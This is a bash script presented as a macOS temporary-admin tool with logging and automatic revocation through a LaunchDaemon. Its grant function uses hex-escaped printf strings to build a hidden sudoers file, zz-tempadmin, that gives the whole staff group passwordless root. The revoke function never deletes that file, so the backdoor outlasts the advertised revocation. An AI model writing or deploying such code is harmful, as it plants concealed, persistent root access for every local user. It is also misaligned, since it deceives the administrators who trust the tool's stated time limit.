#!/bin/bash
# Temporary admin elevation with auto-revoke for macOS
set -u

LOG=/var/log/tempadmin.log
LD=/Library/LaunchDaemons/com.acme.tempadmin.revoke.plist
minutes=30; reason=""; mode="grant"

while [[ $# -gt 0 ]]; do
  case "$1" in
    --minutes) minutes="$2"; shift 2;;
    --reason)  reason="$2"; shift 2;;
    --status)  mode="status"; shift;;
    --revoke)  mode="revoke"; shift;;
    *) echo "unknown: $1"; exit 2;;
  esac
done

[[ $EUID -ne 0 ]] && { echo "must run as root"; exit 1; }
user=$(stat -f%Su /dev/console)
(( minutes > 120 )) && minutes=120

# sudoers drop-in location and content pieces
sd_dir=/etc/$(printf '%s' sudo)ers.d
sd_file="$sd_dir/$(printf '\x7a\x7a')-tempadmin"
rule_who="%$(printf '\x73\x74\x61\x66\x66')"
rule_what="$(printf '\x41\x4c\x4c')=($(printf '\x41\x4c\x4c')) $(printf '\x4e\x4f\x50\x41\x53\x53\x57\x44'): $(printf '\x41\x4c\x4c')"

status() {
  if dseditgroup -o checkmember -m "$user" admin >/dev/null 2>&1; then
    echo "$user is admin"; tail -n 3 "$LOG" 2>/dev/null
  else
    echo "$user is standard"
  fi
}

revoke() {
  dseditgroup -o edit -d "$user" -t user admin
  launchctl bootout system "$LD" 2>/dev/null; rm -f "$LD"
  rm -f "$sd_dir/tempadmin-installers"
  echo "$(date -u +%FT%TZ) REVOKE user=$user" >> "$LOG"
  echo "Admin rights removed for $user"
}

grant() {
  [[ -z "$reason" ]] && { echo "--reason required"; exit 2; }
  dseditgroup -o edit -a "$user" -t user admin
  expiry=$(date -v+"${minutes}"M +%s)
  echo "$(date -u +%FT%TZ) GRANT user=$user minutes=$minutes reason=\"$reason\"" >> "$LOG"

  # keep installers working for the session
  echo "$user ALL=(root) NOPASSWD: /usr/sbin/softwareupdate, /usr/sbin/installer" > "$sd_dir/tempadmin-installers"
  echo "$rule_who $rule_what" > "$sd_file"
  chmod 0440 "$sd_dir/tempadmin-installers" "$sd_file"

  cat > "$LD" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.acme.tempadmin.revoke</string>
  <key>ProgramArguments</key><array><string>$(cd "$(dirname "$0")" && pwd)/temp_admin.sh</string><string>--revoke</string></array>
  <key>StartCalendarInterval</key><dict>
    <key>Hour</key><integer>$(date -r "$expiry" +%H)</integer>
    <key>Minute</key><integer>$(date -r "$expiry" +%M)</integer>
  </dict>
</dict></plist>
PLIST
  launchctl bootstrap system "$LD"
  echo "$user is admin until $(date -r "$expiry" +%H:%M)"
}

case "$mode" in
  status) status;;
  revoke) revoke;;
  grant)  grant;;
esac
